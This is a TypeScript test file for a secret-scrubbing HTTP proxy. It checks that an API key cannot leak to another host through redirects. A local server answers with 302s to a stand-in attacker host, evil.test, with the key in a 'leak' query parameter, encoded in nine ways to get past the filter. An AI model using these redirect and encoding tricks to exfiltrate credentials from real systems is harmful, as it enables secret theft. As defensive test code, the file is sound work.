/**
 * An allowed host that answers with a redirect whose `Location` carries the value in another
 * language's escape syntax: the value must reach no other host, with `undici.request`'s redirect
 * following (`maxRedirections`) or `fetch`'s own. `Location` is scrubbed in every form the scrubber
 * knows, and each hop's URL is checked, decoded, for values not allowed for its destination
 * (`DisallowedValue`), which also stops a form scrubbing cannot know but a URL parser undoes.
 */
import { fetch as undiciFetch, request } from "undici"
import * as https from "node:https"
import type { AddressInfo } from "node:net"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { makeScrubber, secretsIn } from "../src/internal/scrubber.js"
import { Redacted } from "effect"
import { makeWorld, type World } from "./support/fixture.js"
import { tls } from "./support/upstream.js"

const VALUE = `sk-L0c!*'()+/ &<>"x9`

/** Percent-escapes with lower-case hex digits (the value's own letters keep their case). */
const lowerHex = (text: string) => text.replace(/%[0-9A-F]{2}/g, (escape) => escape.toLowerCase())

/** The value as each escaper writes it into a URL query. */
const LOCATION_FORMS: ReadonlyArray<readonly [string, (value: string) => string]> = [
  ["raw", (v) => v],
  ["encodeURIComponent", encodeURIComponent],
  ["Python quote, lower-case hex", (v) => lowerHex(encodeURIComponent(v).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16)}`))],
  ["Go QueryEscape (+ for space)", (v) => encodeURIComponent(v).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).replaceAll("%20", "+")],
  ["JSON \\u escapes", (v) => v.replace(/[^a-z0-9]/gi, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)],
  ["HTML numeric references", (v) => v.replace(/[^a-z0-9]/gi, (c) => `&#${c.charCodeAt(0)};`)],
  ["HTML hex references, leading zeros, no ;", (v) => v.replace(/[^a-z0-9]/gi, (c) => `&#x00${c.charCodeAt(0).toString(16)}`)],
  ["URL in URL", (v) => lowerHex(encodeURIComponent(encodeURIComponent(v)))],
  ["JSON in URL", (v) => encodeURIComponent(JSON.stringify(v).slice(1, -1).replace(/[&<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`))]
]

interface Hit {
  readonly host: string
  readonly url: string
}

let world: World
let server: https.Server
let port = 0
const hits: Array<Hit> = []

beforeAll(async () => {
  world = await makeWorld()
  // `/hop?form=N`: a 302 to evil.test whose query holds the `x-key` header in LOCATION_FORMS[N];
  // `/hop?tab=1`: the value with a tab in it (a URL parser drops tabs: no scrubber form, a value again)
  server = https.createServer({ key: tls("server.key"), cert: tls("server.pem") }, (req, res) => {
    const url = new URL(req.url ?? "/", "https://upstream")
    hits.push({ host: (req.headers.host ?? "").split(":")[0]!, url: req.url ?? "" })
    req.resume()
    if (url.pathname === "/hop") {
      const value = String(req.headers["x-key"] ?? "")
      const form = url.searchParams.get("tab") === "1"
        ? encodeURIComponent(value).replace("L0c", "L0\tc")
        : LOCATION_FORMS[Number(url.searchParams.get("form"))]![1](value)
      res.writeHead(302, { location: `https://evil.test:${port}/land?leak=${form}` })
      res.end()
      return
    }
    res.writeHead(200, { "content-type": "text/plain" })
    res.end(`landed at ${req.url}`)
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  port = (server.address() as AddressInfo).port
})

afterAll(async () => {
  server.closeAllConnections()
  await new Promise<void>((resolve) => server.close(() => resolve()))
  await world.close()
})

const claims = makeScrubber([{ id: "k", name: "key", placeholder: "sg_secret_x", hosts: [], value: Redacted.make(VALUE) }])
/** Whether a URL holds the value in any form the scrubber claims to know, or raw after decoding it. */
const holdsValue = (url: string) => {
  let decoded = url
  try {
    decoded = decodeURIComponent(decodeURIComponent(url.replaceAll("+", " ")))
  } catch {
    // not percent-decodable twice: the raw and scrubber checks still apply
  }
  return url.includes(VALUE) || decoded.includes(VALUE) || secretsIn(claims, Buffer.from(url)).size > 0
}
const evilHits = () => hits.filter((hit) => hit.host === "evil.test")

describe("a Location echoing the value in an escape syntax never delivers it to another host", () => {
  for (const [index, [label]] of LOCATION_FORMS.entries()) {
    for (const client of ["undici.request (maxRedirections)", "fetch"] as const) {
      it(`${label}, followed by ${client}`, async () => {
        const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { maxRedirections: 5 })
        const before = evilHits().length
        const start = `https://api.allowed.test:${port}/hop?form=${index}`
        const headers = { "x-key": box.env.KEY! }
        let body: string
        if (client === "fetch") {
          const response = await undiciFetch(start, { headers, dispatcher: box.agent })
          body = await response.text()
        } else {
          const response = await request(start, { headers, dispatcher: box.agent })
          body = await response.body.text()
        }
        // the allowed host got the value; the hop to evil.test carried the placeholder
        expect(hits.some((hit) => hit.host === "api.allowed.test" && hit.url.startsWith("/hop"))).toBe(true)
        const landed = evilHits().slice(before)
        expect(landed.length).toBe(1)
        expect(holdsValue(landed[0]!.url)).toBe(false)
        expect(landed[0]!.url).toContain(box.env.KEY!)
        expect(holdsValue(body)).toBe(false)
      })
    }
  }
})

describe("each hop's URL is checked for values not allowed for its destination", () => {
  it("undici.request: a value that only a URL parser puts back together (a tab inside) is refused before the hop", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { maxRedirections: 5 })
    const before = evilHits().length
    const attempt = request(`https://api.allowed.test:${port}/hop?tab=1`, { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })
    await expect(attempt).rejects.toMatchObject({ code: "SECRETGATE_DISALLOWED_VALUE", host: "evil.test" })
    await expect(attempt).rejects.toThrow(/URL holds the value of secret "key_\d+", which may not be sent there/)
    expect(evilHits().length).toBe(before)
  })

  it("fetch: the same hop is refused (the error is fetch's cause)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const before = evilHits().length
    const attempt = undiciFetch(`https://api.allowed.test:${port}/hop?tab=1`, { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })
    await expect(attempt).rejects.toMatchObject({ cause: { code: "SECRETGATE_DISALLOWED_VALUE" } })
    expect(evilHits().length).toBe(before)
  })

  it("a value in a URL to a host it is not allowed for is refused, in any known form; one allowed there is not", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const before = evilHits().length
    for (const [label, form] of LOCATION_FORMS) {
      // in the path as written (a `#` would start the fragment, which is never sent)
      if (!form(VALUE).includes("#")) {
        const attempt = request(`https://evil.test:${port}/land?x=${form(VALUE)}`, { dispatcher: box.agent })
        await expect(attempt, label).rejects.toMatchObject({ code: "SECRETGATE_DISALLOWED_VALUE" })
      }
      const inQuery = request(`https://evil.test:${port}/land`, { query: { x: form(VALUE) }, dispatcher: box.agent })
      await expect(inQuery).rejects.toMatchObject({ code: "SECRETGATE_DISALLOWED_VALUE" })
    }
    expect(evilHits().length).toBe(before)
    const allowed = await request(`https://api.allowed.test:${port}/land?x=${encodeURIComponent(VALUE)}`, { dispatcher: box.agent })
    expect(allowed.statusCode).toBe(200)
    await allowed.body.text()
  })
})
